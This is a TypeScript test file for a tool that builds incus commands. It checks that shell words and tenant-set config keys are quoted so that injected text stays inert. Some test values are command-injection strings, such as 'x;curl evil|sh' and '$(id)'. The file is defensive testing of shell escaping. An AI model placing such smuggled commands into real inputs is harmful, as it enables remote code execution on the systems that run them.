/** Commands that people are told to run. */
import { expect, test } from 'vitest'
import { coverInstances } from '../../shared/policy/coverage.ts'
import { configCommand, incusCommand, keepAside, shellWord, snapshotCommand } from '../../shared/shell.ts'
import { configOf, recordOf, replyOf } from './policy/instances.ts'

test.each([
  ['web1', 'web1'],
  ['user.stapes.hold.a-b=x', 'user.stapes.hold.a-b=x'],
  ['x;curl evil|sh', "'x;curl evil|sh'"],
  ["it's", "'it'\\''s'"],
  ['$(id)', "'$(id)'"],
])('%s is one word of a shell', (word, quoted) => {
  expect(shellWord(word)).toBe(quoted)
})

test('a command says in which project, unless that is the default', () => {
  expect(incusCommand('default', 'start', 'web1')).toBe('incus start web1')
  expect(incusCommand("shop's", 'delete', 'web1')).toBe("incus delete web1 --project 'shop'\\''s'")
  expect(keepAside({ project: 'shop', instance: 'web1' })).toBe('incus rename web1 web1-kept --project shop')
})

test('about a custom volume, a command names its pool and itself', () => {
  const web = { remote: 'main', project: 'default', instance: 'web1' }
  const volume = { remote: 'main', project: 'shop', instance: 'a%3Ab:data' }
  expect(configCommand(web, 'set', 'k=v')).toBe('incus config set web1 k=v')
  expect(configCommand(volume, 'unset', 'k')).toBe('incus storage volume unset a:b data --project shop k')
  expect(snapshotCommand(web, 'delete', 's1')).toBe('incus snapshot delete web1 s1')
  expect(snapshotCommand(volume, 'list')).toBe('incus storage volume snapshot list a:b data --project shop')
})

test('a key that a tenant has set runs nothing in the command that unsets it', () => {
  const own = { 'user.stapes.replica-of': 'main/default/other', 'user.stapes.undo.x;curl evil|sh': 'y' }
  const main = replyOf([recordOf('web', { own })])
  const [coverage] = coverInstances(configOf({ hourly: { copy: { remote: 'backup' } } }), { main })
  const said = JSON.stringify(coverage?.problems)
  expect(said).toContain('incus config unset web')
  expect(said).toContain("'user.stapes.undo.x;curl evil|sh'")
  expect(said).not.toContain('unset web user.stapes.undo.x;')
})
